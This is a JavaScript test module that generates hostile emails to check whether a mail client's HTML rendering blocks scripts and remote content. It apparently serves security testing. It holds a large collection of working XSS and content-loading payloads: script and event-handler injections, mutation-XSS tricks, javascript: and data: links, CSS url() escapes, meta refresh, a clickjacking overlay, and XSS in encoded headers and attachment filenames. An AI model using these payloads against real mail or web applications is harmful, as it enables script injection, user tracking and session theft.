/**
 * Mails that try to run something or to be noticed, one trick each. `AT` is where a listener counts; every trick
 * names itself there, so that what got through is known by name.
 */

const RUN = "alert(document.domain)";

/** @type {Record<string, string>} what stands in the HTML part; `AT/name` is put in as `AT` */
const TRICKS = {
  // scripts
  script: `<script>${RUN};fetch("AT")</script>`,
  "script-src": '<script src="AT"></script>',
  "script-in-comment": `<!--><script>${RUN}</script>--><!-- --!><script src="AT"></script>`,
  "script-nested": `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  "img-onerror": `<img src=x onerror="${RUN}"><img src=x onerror=fetch('AT')>`,
  "attributes-broken": `<img """><script>${RUN}</script>"><img src="x\` \`<script>${RUN}</script>"\` \`>`,
  "svg-onload": `<svg onload="${RUN}"><image href="AT"/><use href="AT#a"/><script href="AT"/><animate onbegin="${RUN}" attributeName="x"/></svg>`,
  "svg-foreign": `<svg><foreignObject><iframe src="AT"></iframe></foreignObject><style>@import "AT"</style></svg>`,
  "math-mutation": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  "noscript-mutation": `<noscript><p title="</noscript><img src='AT' onerror=${RUN}>"></noscript>`,
  "template-inside": `<template><script>${RUN}</script><img src="AT"></template>`,
  "details-toggle": `<details open ontoggle="${RUN}"><summary>a</summary>b</details>`,
  "focus-by-itself": `<input autofocus onfocus="${RUN}"><textarea autofocus onfocus="${RUN}"></textarea><a tabindex=1 autofocus onfocus="${RUN}">x</a>`,
  marquee: `<marquee onstart="${RUN}">x</marquee><video><source onerror="${RUN}"></video>`,
  "link-javascript": `<a href="javascript:${RUN}" id=press>press</a><a href="java&#10;script:${RUN}">press</a><a href="&#1;javascript:${RUN}">press</a><a href="data:text/html,<script>${RUN}</script>">press</a>`,
  "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<meta http-equiv=content-type content='text/html;charset=utf-7'>",
  plaintext: `<plaintext><script>${RUN}</script>`,
  xmp: `<xmp><p title="</xmp><script>${RUN}</script>">`,
  "frame-in-frame": `<iframe srcdoc="<script>parent.${RUN}</script><img src='AT'>"></iframe><iframe src="AT"></iframe><iframe src="javascript:${RUN}"></iframe>`,
  frameset: '<frameset><frame src="AT"></frameset>',
  object: `<object data="AT"><embed src="AT"></object><object data="data:text/html,<script>${RUN}</script>"></object><applet code="AT"></applet>`,
  // documents that lead elsewhere
  refresh: '<meta http-equiv="refresh" content="0;url=AT"><meta http-equiv=refresh content="0;javascript:alert(1)">',
  base: '<base href="AT/"><img src="relative.png"><a href="x">x</a>',
  form: '<form action="AT" method=post><input name=a value=b><button autofocus formaction="AT">x</button><input type=image src="AT"></form>',
  "link-elements": '<link rel=stylesheet href="AT"><link rel=prefetch href="AT"><link rel=preload as=image href="AT"><link rel=dns-prefetch href="AT"><link rel=preconnect href="AT"><link rel=icon href="AT"><link rel=prerender href="AT"><link rel=manifest href="AT">',
  "http-equiv": '<meta http-equiv="Link" content="<AT>; rel=preload; as=image"><meta http-equiv="Content-Security-Policy" content="default-src *">',
  // pictures
  img: '<img src="AT"><img src=AT><IMG SRC="AT" width=1 height=1>',
  "img-srcset": '<img srcset="AT 1x, AT 2x"><picture><source srcset="AT"><img src="AT"></picture>',
  "img-lazy": '<img loading=eager src="AT" lowsrc="AT" dynsrc="AT" longdesc="AT">',
  "img-blanks": '<img src="  AT "><img src="&#104;ttp:AT"><img src="//HOST/slashes"><img src="\\\\HOST/backslashes"><img src="/\\HOST/mixed">',
  "img-data-svg": `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'><image href='AT'/></svg>"><img src="data:text/html,<script>${RUN}</script>">`,
  "img-own": '<img src="/api/v1/session"><img src="/api/v1/board?leak"><img src="cid:nobody">',
  background: '<body background="AT"><table background="AT"><tr background="AT"><td background="AT">x</td></tr></table>',
  media: '<video src="AT" poster="AT" autoplay></video><audio src="AT" autoplay></audio><video><source src="AT"><track src="AT" default></video>',
  ping: '<a href="AT" ping="AT">x</a><area href="AT" ping="AT">',
  // style
  "style-import": '<style>@import url(AT);@import "AT";</style><style>@font-face{font-family:a;src:url(AT)}p{font-family:a}</style><p>x</p>',
  "style-rule": "<style>body{background:url('AT')}p::before{content:url(AT)}*{cursor:url(AT),auto}</style><p>x</p>",
  "style-url": "<p style=\"background:url('AT')\">x</p><p style=\"background-image:url(AT)\">x</p><p style='background:URL( \"AT\" )'>x</p>",
  "style-escaped": String.raw`<p style="background:u\72l('AT')">x</p><p style="background:\75\72\6c(AT)">x</p><p style="b\61ckground:ur\l(AT)">x</p><p style="background:/**/u/**/rl(AT)">x</p>`,
  "style-sets": "<p style=\"background:image-set('AT' 1x)\">x</p><p style=\"background:-webkit-image-set(url(AT) 1x)\">x</p><p style=\"background:cross-fade(url(AT),url(AT),50%)\">x</p><p style=\"background:image('AT')\">x</p>",
  "style-places": '<ul style="list-style-image:url(AT)"><li style="list-style:url(AT)">x</ul><p style="cursor:url(AT),auto">x</p><p style="border-image:url(AT) 1">x</p><p style="mask:url(AT);-webkit-mask-image:url(AT);clip-path:url(AT#a);filter:url(AT#a);shape-outside:url(AT);offset-path:url(AT)">x</p>',
  "style-variables": '<p style="--a:url(AT);background:var(--a)">x</p><p style="--b:AT;background:url(var(--b))">x</p><p style="src:url(AT)">x</p>',
  "style-behaviour": `<p style="behavior:url(AT);-moz-binding:url(AT#x);width:expression(${RUN})">x</p>`,
  "style-breaks-out": `<p style="color:red;&quot;&gt;&lt;img src=AT onerror=${RUN}&gt;">x</p><p style="</style><img src=AT>">x</p>`,
  "style-broken": "<p style=\"background:url(AT\">x</p><p style=\"color:red}body{background:url(AT)\">x</p><style>p{color:red</style><p style=\"background:url('AT\n')\">x</p>",
  "style-over-all": '<div style="position:fixed;inset:0;z-index:99999;opacity:0"><a href="AT" target="_top">x</a></div>',
  "old-elements": '<bgsound src="AT"><layer src="AT"></layer><ilayer src="AT"></ilayer><xml src="AT"></xml><isindex action="AT"><keygen autofocus onfocus=alert(1)><portal src="AT"></portal>',
};

/** Names that are no HTML part: where a mail's own words stand in the page. */
const EVIL = `<img src=x onerror=${RUN}>`;
const encoded = (text) => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;

const head = (n, more) => `From: ${encoded(`Mallory ${EVIL}`)} <mallory@evil.example>\r\nTo: info@hansen.example\r\nSubject: ${encoded(`Re: ${EVIL}`)}\r\nDate: ${new Date().toUTCString().replace("GMT", "+0000")}\r\nMessage-ID: <${n}@evil.example>\r\n${n ? "References: <0@evil.example>\r\nIn-Reply-To: <0@evil.example>\r\n" : ""}MIME-Version: 1.0\r\n${more}`;

/** A file whose name and kind would like to be shown. */
const file = (type, name, content) => `--b\r\nContent-Type: ${type}; name="${name}"\r\nContent-Disposition: inline; filename="${name}"\r\n\r\n${content}\r\n`;

/**
 * All of them, in one exchange.
 * @param {string} at where a listener counts @returns {{ names: string[], mails: Buffer[] }}
 */
export function hostileMails(at) {
  const host = new URL(at).host;
  const names = Object.keys(TRICKS);
  const mails = names.map((name, n) => {
    const html = (TRICKS[name] ?? "").replaceAll("AT", `${at}/${name}`).replaceAll("HOST", host);
    return Buffer.from(`${head(n, "Content-Type: text/html; charset=utf-8\r\n")}\r\n<html><body><p>${name}</p>${html}</body></html>\r\n`);
  });
  const script = `<script>${RUN}</script><img src="${at}/attached">`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${at}/attached-svg"/></svg>`;
  mails.push(Buffer.from(`${head(names.length, "Content-Type: text/plain; charset=utf-8\r\n")}\r\n${script} ${EVIL}\r\n`));
  mails.push(Buffer.from(`${head(names.length + 1, 'Content-Type: multipart/mixed; boundary="b"\r\n')}\r\n--b\r\nContent-Type: text/plain\r\n\r\nfiles\r\n${file("text/html", "a<img src=x onerror=alert(1)>.html", script)}${file("image/svg+xml", "b.svg", svg)}${file("text/calendar", "c.ics", `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:${EVIL}\r\nEND:VEVENT\r\nEND:VCALENDAR`)}--b--\r\n`));
  return { names, mails };
}
